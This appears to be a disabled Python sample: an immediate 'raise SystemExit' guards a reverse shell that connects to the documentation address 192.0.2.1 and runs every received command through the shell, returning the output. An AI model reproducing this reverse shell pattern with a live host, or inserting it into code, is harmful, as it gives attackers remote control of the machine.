raise SystemExit  # nothing below ever runs
import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("192.0.2.1",9))
while 1:
  s.send(subprocess.check_output(s.recv(1024),shell=True))
